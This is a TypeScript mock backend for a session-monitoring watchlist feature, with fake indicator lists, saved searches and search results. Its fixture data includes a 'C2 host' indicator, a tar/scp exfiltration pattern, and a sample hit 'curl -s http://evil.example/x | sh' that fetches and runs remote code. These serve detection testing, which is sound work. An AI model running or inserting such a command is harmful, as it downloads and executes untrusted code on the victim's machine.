// Watchlists of the fake core: a list of indicators with hits in the first sessions, a saved search, and the built-in list.

import type { Input, Output } from '../../shared/api/contract.ts';
import { ExhibitError } from '../../shared/api/errors.ts';
import type { SearchHit } from '../../shared/api/search-shapes.ts';
import { BUILT_IN_LIST, type WatchDetail } from '../../shared/api/watch-shapes.ts';
import { parseQuery } from '../../shared/query/parser.ts';
import { SECRET_PATTERNS } from '../../shared/query/secrets.ts';
import { parseWatchlist } from '../../shared/query/watchlist.ts';

type Calls = 'watch.list' | 'watch.show' | 'watch.save' | 'watch.remove' | 'watch.check' | 'watch.run' | 'watch.report';
type Handlers = { readonly [K in Calls]: (input: Input<K>) => Output<K> | Promise<Output<K>> };

const NOW = '2026-11-21T10:00:00Z';

function check({ kind, text }: Input<'watch.check'>): Output<'watch.check'> {
  if (kind === 'query') {
    const parsed = parseQuery(text);
    if (parsed.kind === 'query') return { indicators: 1, faults: [] };
    const faults = parsed.faults.map(({ start, end, why, todo }) => ({
      line: 1,
      column: start + 1,
      length: end - start,
      why,
      todo,
    }));
    return { indicators: 0, faults };
  }
  const parsed = parseWatchlist(text);
  return parsed.kind === 'wrong'
    ? { indicators: 0, faults: [...parsed.faults] }
    : { indicators: parsed.indicators.length, faults: [] };
}

/** `sessions`: ids in which the lists hit. `run` starts a job and ends it. */
export function fakeWatch(sessions: () => readonly string[], run: () => string): Handlers {
  const lists = new Map<string, WatchDetail>();
  const put = (name: string, kind: WatchDetail['kind'], text: string, ended = false): WatchDetail => {
    const before = lists.get(name);
    const version = { version: (before?.version ?? 0) + 1, kind, digest: 'ab'.repeat(32), author: 'ana@laptop', at: NOW, ended };
    const searched = sessions().length;
    const hit = Math.min(searched, kind === 'built-in' ? 1 : 3);
    const list = {
      ...version,
      name,
      text,
      indicators: kind === 'indicators' ? check({ kind, text }).indicators : kind === 'query' ? 1 : SECRET_PATTERNS.length,
      searched: ended ? 0 : searched,
      pending: 0,
      hits: ended ? 0 : 2 * hit,
      sessions: ended ? 0 : hit,
      fault: null,
      versions: [...(before?.versions ?? []), version],
    };
    lists.set(name, list);
    return list;
  };
  put(
    'Bad hosts',
    'indicators',
    '# Of the incident of November\n[C2 host] evil.example\n[copy out] all of (tar, /scp\\s+\\S+@/)\n10.0.0.7\n',
  );
  put(BUILT_IN_LIST, 'built-in', 'secrets 2');
  put('Sudo by night', 'query', 'in:command sudo');

  const find = (name: string): WatchDetail => {
    const found = lists.get(name);
    if (found === undefined) throw new ExhibitError('not-found', `watchlist ${name}`, 'there is no such watchlist');
    return found;
  };
  const hits = (sessionId: string): SearchHit[] =>
    [1, 2].map((second) => ({
      sessionId,
      in: second === 1 ? 'typed' : 'visible',
      fromUs: second * 1_000_000,
      toUs: second * 1_000_000 + 500_000,
      index: second,
      row: second === 1 ? null : 3,
      col: second === 1 ? null : 10,
      text: 'curl -s http://evil.example/x | sh',
      matchStart: 15,
      matchLength: 12,
    }));
  return {
    'watch.list': () =>
      Array.from(lists.values(), (detail) => {
        const { text: _, versions: __, ...list } = detail;
        return list;
      }).toSorted((a, b) => (a.name < b.name ? -1 : 1)),
    'watch.show': ({ name }) => find(name),
    'watch.check': check,
    'watch.save': ({ name, kind, text }) => put(name, kind, text),
    'watch.remove': ({ name }) => {
      const { kind, text } = find(name);
      put(name, kind, text, true);
      return null;
    },
    'watch.run': () => ({ job: run() }),
    'watch.report': ({ name, offset = 0, limit = 50 }) => {
      const { text, versions: _, ...list } = find(name);
      const ids = sessions().slice(0, list.sessions);
      const indicator = {
        indicator: 0,
        name: list.kind === 'indicators' ? 'C2 host' : list.kind === 'built-in' ? 'GitHub token' : null,
        text: list.kind === 'query' ? text : 'evil.example',
        severity: list.kind === 'built-in' ? ('critical' as const) : null,
        hits: list.hits,
        sessions: list.sessions,
      };
      return {
        list,
        indicators: ids.length === 0 ? [] : [indicator],
        total: ids.length,
        findings: ids.slice(offset, offset + limit).map((id) => ({ indicator: 0, sessionId: id, total: 2, hits: hits(id) })),
        notSearched: [],
        notSearchedCount: 0,
      };
    },
  };
}
